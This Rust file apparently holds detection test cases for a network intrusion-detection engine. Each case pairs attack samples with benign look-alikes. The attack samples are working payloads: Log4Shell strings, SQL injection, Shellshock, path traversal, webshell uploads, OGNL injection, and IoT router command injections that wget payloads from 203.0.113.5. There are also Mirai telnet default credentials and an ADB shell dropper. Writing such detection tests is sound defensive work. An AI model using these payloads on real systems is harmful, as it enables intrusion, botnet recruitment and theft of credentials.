//! What is sent to web servers and to the web pages of devices.

use super::{Case, Tcp, case, get, header, post, web};

pub(super) fn web_cases() -> Vec<Case> {
    let form = "application/x-www-form-urlencoded";
    let multipart = "multipart/form-data; boundary=x";
    let upload = |code: &str| {
        post(
            "/upload.php",
            multipart,
            &format!(
                "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n{code}\r\n--x--"
            ),
        )
    };
    vec![
        web(
            "web.log4shell",
            &[
                header("User-Agent: ${jndi:ldap://203.0.113.5:1389/a}"),
                header("X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/a}"),
                header("Referer: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5/a}"),
                header(
                    "Cookie: s=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.5/a}",
                ),
                header("User-Agent: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.5/a}"),
                header("User-Agent: ${${date:'j'}${date:'n'}di:ldap://203.0.113.5/a}"),
                get("/?x=$%7Bjndi:ldap://203.0.113.5/a%7D"),
                get("/?x=%24%7B%24%7Blower:j%7Dndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D"),
            ],
            &[
                header("User-Agent: ${jdni:ldap://203.0.113.5:1389/a}"),
                header("X-Template: ${join(items, ':')} and jndi:ldap"),
                get("/docs/jndi:lookup?price=$%7Bamount%7D"),
            ],
        ),
        web(
            "web.sqli-union",
            &[
                get("/item.php?id=-1+union+select+1,2,3--+-"),
                get("/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,user())--%20-"),
                get("/item.php?id=1/**/UnIoN/**/SeLeCt/**/password/**/FROM/**/users"),
                get("/?q=%27)+union+select+@@version,2%23"),
                post("/login", form, "user=x'+union+select+user,pass+from+users--&pass=y"),
            ],
            &[
                get("/search?q=credit+union+select+account"),
                get("/search?q=student+union+select+committee+from+2024"),
                get("/search?q=2024+union+selection+process"),
                get("/search?q=%22western+union%22+select+locations"),
            ],
        ),
        web(
            "web.sqli-tautology",
            &[
                get("/item.php?id=1+or+1=1"),
                get("/item.php?id=1%27%20OR%20%271%27=%271"),
                get("/item.php?id=1'+or+'a'='a'--"),
                get("/item.php?id=1%20AND%208912%3D8913"),
                get("/?id=%27+or+%271%27%3D%271"),
                post("/login", form, "user=admin%27+or+1%3D1--&pass=x"),
            ],
            &[
                get("/search?q=more+or+less&p=1"),
                get("/rest/api/2/search?jql=project%3D%22ABC%22+OR+project%3DDEF"),
                get("/odata/Items?$filter=Name%20eq%20'a'%20or%20Name%20eq%20'b'"),
                get("/list?a=1&or=1&b=2"),
                get("/search?q='rock+and+roll'&year=1950"),
                get("/search?q=%22war+and+peace%22+or+%221984%22&sort=asc"),
                get("/shop?cat=shoes+and+size=42"),
                get("/report?filter=total%3E100+and+7%3D7days"),
            ],
        ),
        web(
            "web.sqli-time",
            &[
                get("/?id=1%20AND%20SLEEP(5)"),
                get("/?id=(select(0)from(select(sleep(15)))v)"),
                get("/?id=1;SELECT%20pg_sleep(10)--"),
                get("/?id=1;waitfor%20delay%20'0:0:15'--"),
                get("/?id=1'+AND+BENCHMARK(5000000,MD5(1))%23"),
            ],
            &[
                get("/search?q=sleep+(song)"),
                get("/search?q=benchmark(cpu)"),
                get("/?q=wait+for+delay"),
                get("/blog/sleep(8)-hours?x=1"),
            ],
        ),
        web(
            "web.shellshock",
            &[
                header("User-Agent: () { :;}; /bin/bash -c 'id'"),
                header("Referer: () { ignored; }; echo; /usr/bin/id"),
                header("Cookie: () { _; } >_[$($())] { echo hi; id; }"),
            ],
            &[header("X-Callback: function() { return; }"), post("/paste", "text/plain", "x = () { :;}; y")],
        ),
        web(
            "web.path-traversal",
            &[
                get("/download?file=../../../../etc/passwd"),
                get("/..%2f..%2f..%2fwindows/win.ini"),
                get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
                get("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
                get("/static/....//....//....//etc/shadow"),
                get("/?f=..%252f..%252f..%252fetc%252fpasswd"),
                get("/%2e%2e/%2e%2e/secret"),
            ],
            &[
                get("/assets/../css/main.css"),
                get("/view?image=../../img/logo.png"),
                get("/docs/etc/passwd-format.html"),
                get("/a...b/...c/etc"),
                header("Referer: http://192.0.2.80/../../etc/passwd"),
            ],
        ),
        web(
            "web.secret-probe",
            &[
                get("/.env"),
                get("/app/.env"),
                get("/.git/config"),
                get("/.aws/credentials"),
                get("/wp-config.php.bak"),
            ],
            &[
                get("/project.git/HEAD"),
                get("/.environment"),
                get("/docs/env"),
                get("/.git"),
                get("/a?file=/.env.js"),
            ],
        ),
        web(
            "web.webshell-upload",
            &[
                upload("<?php system($_GET['c']); ?>"),
                upload("GIF89a<?php @eval($_POST[\"x\"]);?>"),
                upload("<?php eval(base64_decode($_REQUEST['z'])); ?>"),
                upload("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
                upload("<%eval request(\"x\")%>"),
                [
                    b"PUT /s.php HTTP/1.1\r\nHost: 192.0.2.80\r\nContent-Length: 38\r\n\r\n".to_vec(),
                    b"<?php passthru($_COOKIE['c']); die; ?>".to_vec(),
                ]
                .concat(),
            ],
            &[
                upload("<?php echo htmlspecialchars($_GET['c']); ?>"),
                upload("<?php phpinfo(); ?>"),
                get("/?x=system($_GET[c])"),
                post("/comments", form, "text=Never+call+system($_GET['c'])"),
            ],
        ),
        web(
            "web.spring4shell",
            &[
                post(
                    "/greeting",
                    form,
                    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
                ),
                get("/?class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=x"),
            ],
            &[post("/greeting", form, "class.name=a&module=classLoader"), get("/docs/class.module.html")],
        ),
        web(
            "web.confluence-ognl",
            &[
                get(
                    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29%29%29%7D/",
                ),
                get("/${Class.forName(\"javax.script.ScriptEngineManager\")}/"),
            ],
            &[get("/%24%7Bbase_url%7D/static/main.css"), get("/api/@java/runtime"), get("/${jndi}/x")],
        ),
        web(
            "web.struts-ognl",
            &[header(
                "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
            )],
            &[header("Content-Type: multipart/form-data; boundary=%{x}"), header("Content-Type: text/html")],
        ),
        web(
            "web.phpunit-eval",
            &[post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/plain", "<?php echo 1;")],
            &[get("/vendor/phpunit/phpunit/README.md"), get("/eval-stdin.php")],
        ),
        web(
            "web.thinkphp-invoke",
            &[get(
                "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
            )],
            &[get("/index.php?s=/index/index"), get("/docs?q=invokefunction+call_user_func")],
        ),
        web(
            "web.php-cgi-arguments",
            &[
                post(
                    "/test.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                    "text/plain",
                    "<?php phpinfo();",
                ),
                get("/index.php?-d+allow_url_include%3Don"),
            ],
            &[get("/index.php?-s"), get("/manual?q=allow_url_include"), get("/x?a-d+auto")],
        ),
        web(
            "web.scanner-agent",
            &[
                header("User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"),
                header("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
                header("User-Agent: Mozilla/5.0 zgrab/0.x"),
                header(
                    "user-agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                ),
            ],
            &[
                header("User-Agent: Mozilla/5.0 (X11; Linux x86_64)"),
                header("X-Note: sqlmap/1.7"),
                get("/nikto"),
            ],
        ),
    ]
}

pub(super) fn device_cases() -> Vec<Case> {
    let soap = |path: &str, body: &str| {
        post(
            path,
            "text/xml",
            &format!("<?xml version=\"1.0\"?><s:Envelope><s:Body>{body}</s:Body></s:Envelope>"),
        )
    };
    vec![
        web(
            "iot.gpon-diag",
            &[post("/GponForm/diag_Form?images/", "text/plain", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://203.0.113.5/g`&ipv=0")],
            &[post("/GponForm/diag_Form", "text/plain", "XWebPageName=diag&diag_action=ping&dest_host=192.0.2.1&ipv=0")],
        ),
        web(
            "iot.netgear-setup",
            &[get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/m&curpath=/")],
            &[get("/setup.cgi?next_file=netgear.cfg&todo=save")],
        ),
        web(
            "iot.hnap-soapaction",
            &[header("SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.5/m`")],
            &[header("SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"")],
        ),
        web(
            "iot.upnp-portmapping",
            &[soap("/picsdesc.xml", "<u:AddPortMapping><NewInternalClient>`cd /var;wget http://203.0.113.5/r`</NewInternalClient></u:AddPortMapping>")],
            &[soap("/ctl/IPConn", "<u:AddPortMapping><NewInternalClient>192.0.2.9</NewInternalClient></u:AddPortMapping>")],
        ),
        web(
            "iot.huawei-upgrade",
            &[soap("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 203.0.113.5 -l /tmp/h)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>")],
            &[soap("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>http://192.0.2.9/s</NewStatusURL></u:Upgrade>")],
        ),
        web(
            "iot.tr064-ntp",
            &[soap("/UD/act?1", "<u:SetNTPServers><NewNTPServer1>`cd /tmp;tftp -l 3 -r 1 -g 203.0.113.5`</NewNTPServer1></u:SetNTPServers>")],
            &[soap("/UD/act?1", "<u:SetNTPServers><NewNTPServer1>pool.ntp.org</NewNTPServer1></u:SetNTPServers>")],
        ),
        web(
            "iot.jaws-shell",
            &[get("/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/j;sh+/tmp/j")],
            &[get("/shell?lang=en"), get("/docs/shell?wget")],
        ),
        case(
            "telnet.mirai-busybox",
            Tcp,
            23,
            &[
                b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
                b"\xff\xfb\x1f\xff\xfb\x20sh\r\n/bin/busybox ECCHI\r\n",
            ],
            &[b"/bin/busybox ls\r\n", b"cat /bin/busybox | head\r\n"],
        ),
        case(
            "telnet.mirai-credentials",
            Tcp,
            2323,
            &[b"\xff\xfd\x03root\r\nxc3511\r\n", b"admin\r\n7ujMko0admin\r\n", b"root\r\0vizxv\r\0"],
            &[b"root\r\nhunter2\r\n", b"alice\r\nxc3511\r\n", b"ls\r\ncat xc3511.txt\r\n"],
        ),
        case(
            "adb.shell-dropper",
            Tcp,
            5555,
            &[b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\0\0\x2a\0\0\0\0\0\0\0\xb0\xaf\xba\xb1shell:cd /data/local/tmp; wget http://203.0.113.5/a\0"],
            &[b"OPEN\x01\0\0\0\0\0\0\0\x2a\0\0\0\0\0\0\0\xb0\xaf\xba\xb1shell:getprop ro.product.model\0"],
        ),
    ]
}
